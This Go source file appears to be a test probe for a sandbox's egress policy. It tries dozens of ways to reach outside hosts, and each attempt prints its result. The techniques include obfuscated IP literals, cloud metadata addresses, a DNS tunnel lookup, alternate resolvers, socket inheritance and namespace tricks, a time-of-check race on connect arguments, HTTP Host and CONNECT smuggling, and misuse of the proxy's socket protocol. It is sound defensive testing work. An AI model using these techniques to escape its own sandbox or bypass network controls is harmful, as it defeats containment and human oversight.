// Command probe tries to reach the outside of a sandbox in ways that the policy does not allow. It prints one line per
// attempt: its name and the error, or REACHED. With a verb, it does something else.
package main

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"runtime"
	"strings"
	"sync/atomic"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

var errHeld = errors.New("held")

// patience bounds attempts that fail only after a timeout, which is a fault.
const patience = time.Minute

func main() {
	if len(os.Args) > 2 && os.Args[1] == "-c" { // it is the shell of an image
		os.Args = append(os.Args[:1], strings.Fields(os.Args[2])...)
	}
	if len(os.Args) > 1 {
		if f, ok := verbs[os.Args[1]]; ok {
			if err := f(os.Args[2:]); err != nil {
				fmt.Println(err)
				os.Exit(1)
			}
			return
		}
	}
	for _, list := range [][]attempt{addresses(os.Args[1:]), datagrams(), sockets(), passed(), memory(os.Args[1:]), protocols(), secured()} {
		for _, a := range list {
			fmt.Printf("%s\t%s\n", a.name, errText(a.try()))
		}
	}
}

func errText(err error) string {
	if err == nil {
		return "REACHED"
	}
	return strings.ReplaceAll(err.Error(), "\n", " ")
}

type attempt struct {
	name string
	try  func() error
}

func dial(network, addr string) attempt {
	return attempt{network + " " + addr, func() error {
		c, err := net.DialTimeout(network, addr, patience)
		if err == nil {
			c.Close()
		}
		return err
	}}
}

// addresses tries literal addresses, and addresses of the machine and its servers.
func addresses(own []string) (list []attempt) {
	for _, a := range append(own,
		"8.8.8.8:80", "93.184.215.14:80", "[2606:4700:4700::1111]:443", "[::ffff:93.184.215.14]:80", "[64:ff9b::5db8:d70e]:80",
		"[2002:5db8:d70e::1]:80", "[::5db8:d70e]:80", "8.8.8.8:853", "8.8.8.8:53", "198.18.77.77:80", "198.18.0.0:80", "198.19.255.255:80",
		"[::ffff:198.18.77.77]:80", "169.254.169.254:80", "[fd00:ec2::254]:80", "168.63.129.16:80", "100.100.100.200:80", "10.0.0.1:80",
		"172.17.0.1:80", "192.168.0.1:80", "100.64.0.1:80", "224.0.0.1:80", "255.255.255.255:80", "240.0.0.1:80", "0.0.0.1:80",
		"[fe80::1%lo]:80", "[ff02::1%lo]:80", "[fc00::1]:80", "93.184.215.14:0",
		"bad.test:80", "web.ok.test.bad.test:80", "private.ok.test:80", "rebind.ok.test:80", "absent.ok.test:80", "web.ok.test:81",
		"1572395790:80", "0x5db8d70e:80", "93.184.55054:80", "0135.0270.0327.016:80",
	) {
		list = append(list, dial("tcp", a))
	}
	return list
}

// datagrams tries UDP and ICMP.
func datagrams() (list []attempt) {
	to := &unix.SockaddrInet4{Port: 443, Addr: [4]byte{8, 8, 8, 8}}
	send := func(name string, protocol int, f func(fd int) error) {
		list = append(list, attempt{name, func() error {
			fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, protocol)
			if err != nil {
				return err
			}
			defer unix.Close(fd)
			return f(fd)
		}})
	}
	send("udp connect", 0, func(fd int) error { return unix.Connect(fd, to) })
	send("udp sendto", 0, func(fd int) error { return unix.Sendto(fd, []byte("x"), 0, to) })
	send("udp sendmsg", 0, func(fd int) error { return unix.Sendmsg(fd, []byte("x"), nil, to, 0) })
	send("udp sendto a resolver", 0, func(fd int) error {
		return unix.Sendto(fd, []byte("x"), 0, &unix.SockaddrInet4{Port: 53, Addr: [4]byte{8, 8, 8, 8}})
	})
	send("multicast", 0, func(fd int) error {
		return unix.Sendto(fd, []byte("x"), 0, &unix.SockaddrInet4{Port: 5353, Addr: [4]byte{224, 0, 0, 251}})
	})
	send("broadcast", 0, func(fd int) error {
		unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_BROADCAST, 1)
		return unix.Sendto(fd, []byte("x"), 0, &unix.SockaddrInet4{Port: 67, Addr: [4]byte{255, 255, 255, 255}})
	})
	send("udp after a connect inside", 0, func(fd int) error {
		if err := unix.Connect(fd, &unix.SockaddrInet4{Port: 53, Addr: [4]byte{8, 8, 4, 4}}); err != nil {
			return fmt.Errorf("not redirected: %w", err)
		}
		return unix.Sendto(fd, []byte("x"), 0, to)
	})
	send("udp sendmmsg", 0, func(fd int) error { return sendMany(fd, to) })
	send("icmp", unix.IPPROTO_ICMP, func(fd int) error {
		return unix.Sendto(fd, []byte{8, 0, 0, 0, 0, 0, 0, 0}, 0, &unix.SockaddrInet4{Addr: [4]byte{8, 8, 8, 8}})
	})
	list = append(list, attempt{"dns tunnel", func() error {
		ctx, cancel := context.WithTimeout(context.Background(), patience)
		defer cancel()
		r := net.Resolver{PreferGo: true}
		texts, err := r.LookupTXT(ctx, "c2VjcmV0.tunnel.test")
		if err == nil && len(texts) == 0 {
			err = errHeld
		}
		return err
	}}, attempt{"other resolver", func() error {
		ctx, cancel := context.WithTimeout(context.Background(), patience)
		defer cancel()
		r := net.Resolver{PreferGo: true, Dial: func(ctx context.Context, network, _ string) (net.Conn, error) {
			var d net.Dialer
			return d.DialContext(ctx, network, "9.9.9.9:53")
		}}
		if _, err := r.LookupHost(ctx, "web.ok.test"); err != nil {
			return fmt.Errorf("not redirected: %w", err)
		}
		_, err := r.LookupHost(ctx, "bad.test")
		return err
	}}, attempt{"other resolver over tcp", func() error {
		_, err := net.DialTimeout("tcp", "1.1.1.1:53", patience)
		return err
	}})
	return list
}

// outsideAddr is not allowed as an address.
var outsideAddr = netip.MustParseAddrPort("93.184.215.14:80")

func sockaddr(a netip.AddrPort) *unix.SockaddrInet4 {
	return &unix.SockaddrInet4{Port: int(a.Port()), Addr: a.Addr().As4()}
}

func connectFD(fd int, to netip.AddrPort) error { return unix.Connect(fd, sockaddr(to)) }

func withSocket(f func(fd int) error) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	return f(fd)
}

// sockets tries sockets that were opened elsewhere, and other ways to connect them.
func sockets() []attempt {
	return []attempt{
		{"inherited socket", func() error {
			return withSocket(func(fd int) error { return inChild(fd, nil) })
		}},
		{"socket of another network", func() error {
			return withSocket(func(fd int) error {
				return inChild(fd, &syscall.SysProcAttr{Cloneflags: unix.CLONE_NEWUSER | unix.CLONE_NEWNET})
			})
		}},
		{"socket of a thread with its own descriptors", func() error {
			done := make(chan error)
			go func() {
				runtime.LockOSThread() // the thread ends
				if err := unix.Unshare(unix.CLONE_FILES); err != nil {
					done <- err
					return
				}
				done <- withSocket(func(fd int) error { return connectFD(fd, outsideAddr) })
			}()
			return <-done
		}},
		{"second connect", func() error {
			return withSocket(func(fd int) error {
				ips, err := net.LookupHost("web.ok.test")
				if err != nil {
					return err
				}
				allowed := netip.AddrPortFrom(netip.MustParseAddr(ips[0]), 80)
				if err := connectFD(fd, allowed); err != nil {
					return fmt.Errorf("an allowed address: %w", err)
				}
				var none unix.RawSockaddrInet4
				if _, _, errno := unix.Syscall(unix.SYS_CONNECT, uintptr(fd), uintptr(unsafe.Pointer(&none)), 16); errno != 0 {
					return errno
				}
				return connectFD(fd, outsideAddr)
			})
		}},
		{"fast open", func() error {
			return withSocket(func(fd int) error { return unix.Sendto(fd, []byte("x"), unix.MSG_FASTOPEN, sockaddr(outsideAddr)) })
		}},
		{"fast open with sendmsg", func() error {
			return withSocket(func(fd int) error {
				return unix.Sendmsg(fd, []byte("x"), nil, sockaddr(outsideAddr), unix.MSG_FASTOPEN)
			})
		}},
		{"deferred connect", func() error {
			return withSocket(func(fd int) error {
				unix.SetsockoptInt(fd, unix.IPPROTO_TCP, unix.TCP_FASTOPEN_CONNECT, 1)
				if err := connectFD(fd, outsideAddr); err != nil {
					return err
				}
				_, err := unix.Write(fd, []byte("x"))
				return err
			})
		}},
		{"transparent socket", func() error {
			return withSocket(func(fd int) error {
				if err := unix.SetsockoptInt(fd, unix.SOL_IP, unix.IP_TRANSPARENT, 1); err != nil {
					return err
				}
				if err := unix.Bind(fd, &unix.SockaddrInet4{Addr: [4]byte{8, 8, 8, 8}}); err != nil {
					return err
				}
				return connectFD(fd, outsideAddr)
			})
		}},
		{"io_uring", func() error {
			var params [120]byte
			_, _, errno := unix.Syscall(unix.SYS_IO_URING_SETUP, 8, uintptr(unsafe.Pointer(&params)), 0)
			return errno
		}},
		{"raw socket", func() error { return socketOf(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_TCP) }},
		{"packet socket", func() error { return socketOf(unix.AF_PACKET, unix.SOCK_RAW, 0) }},
		{"sctp", func() error { return socketOf(unix.AF_INET, unix.SOCK_STREAM, unix.IPPROTO_SCTP) }},
		{"mptcp", func() error { return socketOf(unix.AF_INET, unix.SOCK_STREAM, unix.IPPROTO_MPTCP) }},
	}
}

func socketOf(family, kind, protocol int) error {
	fd, err := unix.Socket(family, kind, protocol)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	if family != unix.AF_INET || kind != unix.SOCK_STREAM {
		return nil
	}
	return connectFD(fd, outsideAddr) // some engines permit such sockets
}

// inChild connects a socket in a child process.
func inChild(fd int, attr *syscall.SysProcAttr) error {
	own, err := unix.Dup(fd)
	if err != nil {
		return err
	}
	f := os.NewFile(uintptr(own), "")
	defer f.Close()
	cmd := exec.Command("/proc/self/exe", "child", outsideAddr.String())
	cmd.ExtraFiles, cmd.SysProcAttr = []*os.File{f}, attr
	out, err := cmd.Output()
	if err != nil {
		return err
	}
	if text := strings.TrimSpace(string(out)); text != "REACHED" {
		return errors.New(text)
	}
	return nil
}

// memory tries arguments that change while they are checked, and invalid ones.
func memory(own []string) []attempt {
	return []attempt{
		{"changing address", func() error { return flip(own) }},
		{"no address", func() error { return rawConnect(nil, 16) }},
		{"short address", func() error { return rawConnect(&unix.RawSockaddrInet4{Family: unix.AF_INET}, 3) }},
		{"long address", func() error { return rawConnect(&unix.RawSockaddrInet4{Family: unix.AF_INET}, 1<<30) }},
		{"negative length", func() error { return rawConnect(&unix.RawSockaddrInet4{Family: unix.AF_INET}, ^uintptr(0)) }},
		{"not a socket", func() error { return connectFD(1, outsideAddr) }},
		{"no descriptor", func() error { return connectFD(999, outsideAddr) }},
	}
}

func rawConnect(a *unix.RawSockaddrInet4, size uintptr) error {
	return withSocket(func(fd int) error {
		if a != nil {
			a.Addr, a.Port = outsideAddr.Addr().As4(), 80<<8
		}
		if _, _, errno := unix.Syscall(unix.SYS_CONNECT, uintptr(fd), uintptr(unsafe.Pointer(a)), size); errno != 0 {
			return errno
		}
		return nil
	})
}

// flip connects while another thread changes the address between one that is allowed, a local one, and others that are not. The
// hub and the machine record what was reached. A connection here must be to the local server, or to the allowed one.
func flip(own []string) error {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return err
	}
	defer l.Close()
	ips, err := net.LookupHost("web.ok.test")
	if err != nil {
		return err
	}
	encode := func(a netip.AddrPort) uint64 {
		b := a.Addr().As4()
		return uint64(unix.AF_INET) | uint64(a.Port()>>8)<<16 | uint64(a.Port()&0xff)<<24 |
			uint64(b[0])<<32 | uint64(b[1])<<40 | uint64(b[2])<<48 | uint64(b[3])<<56
	}
	choices := []uint64{
		encode(netip.AddrPortFrom(netip.MustParseAddr(ips[0]), 80)),
		encode(netip.MustParseAddrPort(l.Addr().String())), encode(outsideAddr), encode(netip.MustParseAddrPort("169.254.169.254:80")),
	}
	for _, text := range own {
		if a, err := netip.ParseAddrPort(text); err == nil && a.Addr().Is4() && !a.Addr().IsLoopback() && !a.Addr().IsUnspecified() {
			choices = append(choices, encode(a))
		}
	}
	buf := make([]uint64, 2)
	var stop atomic.Bool
	defer stop.Store(true)
	go func() {
		for i := 0; !stop.Load(); i++ {
			atomic.StoreUint64(&buf[0], choices[i%len(choices)])
		}
	}()
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			c.Close()
		}
	}()
	reached := 0
	for range 300 {
		err := withSocket(func(fd int) error {
			// In a network with a route, a connect that was changed waits for a reply of the loopback interface.
			unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_SNDTIMEO, &unix.Timeval{Usec: 20_000})
			if _, _, errno := unix.Syscall(unix.SYS_CONNECT, uintptr(fd), uintptr(unsafe.Pointer(&buf[0])), 16); errno != 0 {
				return errno
			}
			return nil
		})
		if err == nil {
			reached++
		}
	}
	if reached == 0 {
		return nil // the attempt proves nothing
	}
	return errHeld
}

// protocols tries to reach other hosts over a connection that is allowed, and to speak to the hub itself.
func protocols() []attempt {
	send := func(port int, text string) func() error {
		return func() error {
			c, err := net.DialTimeout("tcp", fmt.Sprintf("web.ok.test:%d", port), patience)
			if err != nil {
				return err
			}
			defer c.Close()
			c.SetDeadline(time.Now().Add(patience))
			io.WriteString(c, text)
			line, err := bufio.NewReader(c).ReadString('\n')
			if err == nil && strings.HasPrefix(line, "HTTP/1.1 200") {
				return nil
			}
			return fmt.Errorf("%q %w", line, errors.Join(err, errHeld))
		}
	}
	return []attempt{
		{"foreign host", send(80, "GET / HTTP/1.1\r\nHost: bad.test\r\n\r\n")},
		{"nested connect", send(80, "CONNECT bad.test:443 HTTP/1.1\r\nHost: bad.test:443\r\n\r\n")},
		{"absolute target", send(80, "GET http://bad.test/ HTTP/1.1\r\nHost: web.ok.test\r\n\r\n")},
		{"http2", send(80, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")},
		{"other protocol", send(80, "\x00\x01\x02\x03\n")},
		{"own descriptor", ownDescriptor},
		{"hub protocol", func() error { return hubProtocol("bad.test") }},
	}
}

// ownDescriptor passes a socket to the hub, as only the sandbox's first process may.
func ownDescriptor() error {
	c, err := dialHub()
	if err != nil {
		return err
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(patience))
	c.Write(append([]byte{1, 2, 0, 80, 11}, "web.ok.test\x00"...))
	reply := make([]byte, 2)
	if _, err := io.ReadFull(c, reply); err != nil || reply[1] != 0 {
		return fmt.Errorf("%v %w", reply, errors.Join(err, errHeld))
	}
	pair, err := unix.Socketpair(unix.AF_UNIX, unix.SOCK_STREAM, 0)
	if err != nil {
		return err
	}
	defer unix.Close(pair[0])
	c.(*net.UnixConn).WriteMsgUnix([]byte{1}, unix.UnixRights(pair[1]), nil)
	unix.Close(pair[1])
	unix.SetsockoptTimeval(pair[0], unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Sec: 60})
	unix.Write(pair[0], []byte("GET / HTTP/1.1\r\nHost: web.ok.test\r\n\r\n"))
	if n, err := unix.Read(pair[0], make([]byte, 1)); n <= 0 {
		return fmt.Errorf("closed: %w", errors.Join(err, errHeld))
	}
	return nil
}

// dialHub connects to the socket of the egress proxy.
func dialHub() (net.Conn, error) {
	path := "/run/cove/egress.sock"
	if _, err := os.Stat(path); err != nil {
		path = "/run/cove-control/egress.sock" // in a Pod
	}
	return net.Dial("unix", path)
}

func hubProtocol(host string) error {
	c, err := dialHub()
	if err != nil {
		return err
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(patience))
	c.Write(append([]byte{1, 2, 0, 80, byte(len(host))}, host+"\x00"...))
	reply := make([]byte, 1)
	if _, err := io.ReadFull(c, reply); err != nil {
		return err
	}
	if reply[0] == 0x80 {
		return nil
	}
	return fmt.Errorf("code %d: %w", reply[0], errHeld)
}
